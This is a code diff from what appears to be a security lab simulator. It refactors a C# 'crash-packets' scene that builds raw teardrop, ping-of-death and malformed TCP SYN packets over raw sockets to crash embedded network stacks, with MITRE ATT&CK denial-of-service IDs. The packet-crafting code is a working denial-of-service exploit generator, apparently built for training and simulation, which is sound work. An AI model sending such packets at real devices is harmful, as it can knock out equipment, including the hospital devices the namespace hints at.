@@ -1,6 +1,7 @@
 using System.Buffers.Binary;
 using System.Net;
 using System.Net.Sockets;
+using Wardkeeper.Lab.Attacks.Packets;
 using Wardkeeper.Lab.Hospital;
 using Wardkeeper.Lab.Services;
 using Wardkeeper.Lab.Site;
@@ -13,8 +14,7 @@ internal sealed class CrashPackets() : Scene("crash-packets",
     "一台笔记本电脑向设备发送可致嵌入式协议栈崩溃的数据包：零紧急指针、重叠分片等。",
     "T1499.004", "T0814")
 {
-    private const int HeaderLength = 20, MoreFragments = 0x2000, TimeToLive = 64;
-    private const byte Icmp = 1, EchoRequest = 8;
+    private const byte EchoRequest = 8, Syn = 2;
     private static readonly string[] Shapes = ["urgent", "land", "teardrop", "ping-of-death", "tcp-options"];
 
     /// <inheritdoc/>
@@ -61,9 +61,9 @@ internal sealed class CrashPackets() : Scene("crash-packets",
         byte[][] packets = shape switch
         {
             // The second fragment says something else of bytes that the first one has told.
-            "teardrop" => [Fragment(rogue.Device.Ip, target, number, MoreFragments, Echo(stage.Dice, 40)), Fragment(rogue.Device.Ip, target, number, 2, stage.Dice.Bytes(24)), Fragment(rogue.Device.Ip, target, number, 5, stage.Dice.Bytes(16))],
+            "teardrop" => [Fragment(rogue.Device.Ip, target, number, RawPacket.MoreFragments, Echo(stage.Dice, 40)), Fragment(rogue.Device.Ip, target, number, 2, stage.Dice.Bytes(24)), Fragment(rogue.Device.Ip, target, number, 5, stage.Dice.Bytes(16))],
             // It reaches beyond 65,535 bytes.
-            "ping-of-death" => [Fragment(rogue.Device.Ip, target, number, MoreFragments, Echo(stage.Dice, 1400)), Fragment(rogue.Device.Ip, target, number, 0x1FFF, stage.Dice.Bytes(stage.Dice.Between(100, 900)))],
+            "ping-of-death" => [Fragment(rogue.Device.Ip, target, number, RawPacket.MoreFragments, Echo(stage.Dice, 1400)), Fragment(rogue.Device.Ip, target, number, 0x1FFF, stage.Dice.Bytes(stage.Dice.Between(100, 900)))],
             _ => [Open(rogue.Device.Ip, target, stage.Dice.Between(20_000, 60_000), port)],
         };
         using Socket raw = rogue.Socket(SocketType.Raw, ProtocolType.Raw);
@@ -75,45 +75,14 @@ internal sealed class CrashPackets() : Scene("crash-packets",
     {
         byte[] echo = dice.Bytes(length);
         (echo[0], echo[1], echo[2], echo[3]) = (EchoRequest, 0, 0, 0);
-        BinaryPrimitives.WriteUInt16BigEndian(echo.AsSpan(2), Sum(echo));
+        BinaryPrimitives.WriteUInt16BigEndian(echo.AsSpan(2), RawPacket.Sum(echo));
         return echo;
     }
 
-    /// <summary>A fragment (RFC 791, section 3.1): flags and offset as they stand in the header. The kernel fills in length and checksum of the header.</summary>
-    private static byte[] Fragment(IPAddress from, IPAddress to, ushort number, int flagsAndOffset, byte[] payload) => Packet(from, to, Icmp, number, flagsAndOffset, payload);
+    /// <summary>A fragment (RFC 791, section 3.1): flags and offset as they stand in the header.</summary>
+    private static byte[] Fragment(IPAddress from, IPAddress to, ushort number, int flagsAndOffset, byte[] payload) => RawPacket.Ip(from, to, ProtocolType.Icmp, number, flagsAndOffset, payload);
 
     /// <summary>A SYN whose option claims a length of zero (RFC 9293, section 3.1).</summary>
-    private static byte[] Open(IPAddress from, IPAddress to, int source, int port)
-    {
-        byte[] segment = new byte[24];
-        BinaryPrimitives.WriteUInt16BigEndian(segment, (ushort)source);
-        BinaryPrimitives.WriteUInt16BigEndian(segment.AsSpan(2), (ushort)port);
-        BinaryPrimitives.WriteUInt32BigEndian(segment.AsSpan(4), (uint)source * 7919u);
-        (segment[12], segment[13], segment[14], segment[20], segment[21]) = (0x60, 0x02, 0x40, 3, 0);
-        byte[] pseudo = [.. from.GetAddressBytes(), .. to.GetAddressBytes(), 0, (byte)ProtocolType.Tcp, 0, (byte)segment.Length, .. segment];
-        BinaryPrimitives.WriteUInt16BigEndian(segment.AsSpan(16), Sum(pseudo));
-        return Packet(from, to, (byte)ProtocolType.Tcp, 0, 0, segment);
-    }
-
-    private static byte[] Packet(IPAddress from, IPAddress to, byte protocol, ushort number, int flagsAndOffset, byte[] payload)
-    {
-        byte[] packet = new byte[HeaderLength + payload.Length];
-        packet[0] = 0x45;
-        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), number);
-        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(6), (ushort)flagsAndOffset);
-        (packet[8], packet[9]) = (TimeToLive, protocol);
-        from.GetAddressBytes().CopyTo(packet, 12);
-        to.GetAddressBytes().CopyTo(packet, 16);
-        payload.CopyTo(packet, HeaderLength);
-        return packet;
-    }
-
-    /// <summary>The internet checksum (RFC 1071).</summary>
-    private static ushort Sum(ReadOnlySpan<byte> bytes)
-    {
-        uint sum = 0;
-        for (int i = 0; i < bytes.Length; i += 2) sum += (uint)((bytes[i] << 8) | (i + 1 < bytes.Length ? bytes[i + 1] : 0));
-        while (sum > ushort.MaxValue) sum = (sum & ushort.MaxValue) + (sum >> 16);
-        return (ushort)~sum;
-    }
+    private static byte[] Open(IPAddress from, IPAddress to, int source, int port) =>
+        RawPacket.Ip(from, to, ProtocolType.Tcp, 0, 0, RawPacket.Tcp(from, to, (source, port), (uint)source * 7919u, 0, Syn, [3, 0, 0, 0], []));
 }
